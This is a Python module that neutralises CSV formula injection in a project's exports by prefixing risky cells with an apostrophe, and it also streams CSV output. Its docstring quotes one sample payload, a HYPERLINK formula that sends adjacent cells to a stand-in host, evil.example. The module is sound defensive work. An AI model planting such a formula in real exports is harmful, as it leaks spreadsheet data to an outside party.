"""CSV files that a spreadsheet opens as data, never as formulas. Every CSV the project writes
(entries, jury exports, results) goes through this module.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
formula, and some skip a leading tab or carriage return first: an entry titled
`=HYPERLINK("http://evil.example/?"&A1,"Click")` would become a live link in an organizer's
spreadsheet that sends the neighbouring cells away. Such text gets a leading apostrophe, which
spreadsheets read as "this is text" and do not show (OWASP's advice for CSV injection).
Numbers, dates and empty cells are written as they are.
"""

import csv
import io
from collections.abc import Iterable, Iterator

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# So that spreadsheet programs read Vietnamese as UTF-8 (Excel assumes a local code page).
BOM = "\ufeff"


def safe_cell(value):
    """The value as a spreadsheet should show it: text that could start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    """`safe_cell` over a row, inline: an export runs this for every cell of every row."""
    return ["'" + v if isinstance(v, str) and v.startswith(FORMULA_STARTS) else v for v in row]


class Writer:
    """`csv.writer` with every cell made safe."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        self._writer.writerows(safe_row(row) for row in rows)


def writer(file, **options) -> Writer:
    return Writer(file, **options)


def lines(header: Iterable[str], rows: Iterable[Iterable], *, batch: int = 500) -> Iterator[str]:
    """A whole CSV file for a streaming response, `batch` rows at a time: memory stays flat,
    and the response is not handed one small piece per row."""
    buffer = io.StringIO()
    out = writer(buffer)

    def take() -> str:
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text

    out.writerow(header)
    yield BOM + take()
    for n, row in enumerate(rows, 1):
        out.writerow(row)
        if n % batch == 0:
            yield take()
    if buffer.tell():
        yield take()
